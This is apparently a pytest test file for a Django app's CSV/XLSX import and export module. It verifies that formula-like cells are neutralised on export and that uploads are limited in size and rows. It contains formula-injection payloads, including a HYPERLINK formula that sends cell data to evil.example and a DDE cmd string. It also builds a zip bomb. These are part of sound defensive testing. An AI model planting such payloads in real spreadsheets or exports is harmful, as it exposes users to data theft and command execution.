"""CSV and XLSX in and out (core.tabular): exports never carry a live formula, uploads are bounded in bytes
and rows while they are read."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet import _read_only

from core.tabular import TabularError, export_response, neutralise, read_rows
from tests.recycling_network.factories import make_point

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def csv_text(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_start_like_a_formula_are_neutralised(payload):
    response = export_response([[payload, "plain", 42]], ["name", "other", "n"], filename="x")
    rows = list(csv.reader(io.StringIO(csv_text(response))))
    assert rows[1][0] == "'" + payload
    assert rows[1][1:] == ["plain", "42"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cells_that_start_like_a_formula_are_text_not_formulas(payload):
    response = export_response([[payload, 42, Decimal("-1.5")]], ["name", "n", "d"], filename="x", fmt="xlsx")
    sheet = xlsx_sheet(response)
    cell = sheet["A2"]
    assert cell.data_type == "s"  # a formula would be "f"
    assert cell.value == payload.replace("\r", "\n")  # XML keeps line ends as \n
    assert sheet["B2"].value == 42 and sheet["C2"].data_type == "n"


def test_a_header_is_neutralised_too_and_harmless_text_is_left_alone():
    response = export_response([["a-b", "x=y", -3, date(2026, 1, 2)]], ["=cmd", "b", "c", "d"], filename="x")
    rows = list(csv.reader(io.StringIO(csv_text(response))))
    assert rows[0][0] == "'=cmd"
    assert rows[1] == ["a-b", "x=y", "-3", "2026-01-02"]  # negative numbers stay numbers
    xlsx = xlsx_sheet(export_response([["ok\x01"]], ["=cmd"], filename="x", fmt="xlsx"))
    assert xlsx["A1"].data_type == "s" and xlsx["A2"].value == "ok"  # a control character XML cannot hold


def test_neutralise_only_touches_the_triggers():
    assert [neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert neutralise("北京") == "北京" and neutralise("") == ""


def test_the_public_xlsx_and_csv_of_service_points_carry_no_formula(client, db):
    make_point(name_zh=PAYLOADS[0], address="@SUM(1)")
    sheet = xlsx_sheet(client.get("/api/v1/public/service-points/?format=xlsx"))
    cells = [c for row in sheet.iter_rows() for c in row]
    assert any(c.value == PAYLOADS[0] for c in cells)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    text = csv_text(client.get("/service-points/?export=csv"))
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text


# --- uploads ------------------------------------------------------------------------------------------------


def xlsx_upload(rows: int, name="rows.xlsx") -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    ws.append(["code", "condition"])
    for n in range(rows):
        ws.append([f"CODE{n}", "intact"])
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile(name, buf.getvalue())


def test_rows_within_the_limit_are_read():
    rows = read_rows(xlsx_upload(5), max_rows=5)
    assert [r["code"] for r in rows] == [f"CODE{n}" for n in range(5)]
    csv_rows = read_rows(SimpleUploadedFile("a.csv", "\ufeffcode\nA\n\nB\n".encode()), max_rows=2)
    assert [r["code"] for r in csv_rows] == ["A", "B"]


def test_reading_stops_at_the_row_limit(monkeypatch):
    """The sheet is streamed: the reader gives up at the first row over the limit instead of loading all."""

    seen = []
    original = _read_only.ReadOnlyWorksheet._cells_by_row

    def counting(self, *args, **kwargs):
        for row in original(self, *args, **kwargs):
            seen.append(1)
            yield row

    monkeypatch.setattr(_read_only.ReadOnlyWorksheet, "_cells_by_row", counting)
    with pytest.raises(TabularError, match="more than 10 rows"):
        read_rows(xlsx_upload(500), max_rows=10)
    assert 11 <= len(seen) <= 13


def test_a_file_over_the_byte_limit_is_refused_before_it_is_parsed(settings):
    settings.TABULAR_UPLOAD_MAX_BYTES = 1000
    big = SimpleUploadedFile("big.csv", b"code\n" + b"A" * 2000)
    with pytest.raises(TabularError, match="at most 1000"):
        read_rows(big)


def test_an_xlsx_that_inflates_too_far_is_refused():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"<" * 5_000_000)
    with pytest.raises(TabularError, match="inflates"):
        read_rows(SimpleUploadedFile("bomb.xlsx", buf.getvalue()), max_bytes=100_000)


def test_broken_and_empty_files_are_refused_with_a_reason():
    with pytest.raises(TabularError, match="XLSX"):
        read_rows(SimpleUploadedFile("x.xlsx", b"PK\x03\x04 not really"))
    with pytest.raises(TabularError, match="empty"):
        read_rows(SimpleUploadedFile("x.csv", b"\n\n"))
    with pytest.raises(TabularError, match="UTF-8"):
        read_rows(SimpleUploadedFile("x.csv", "编码".encode("gbk")))
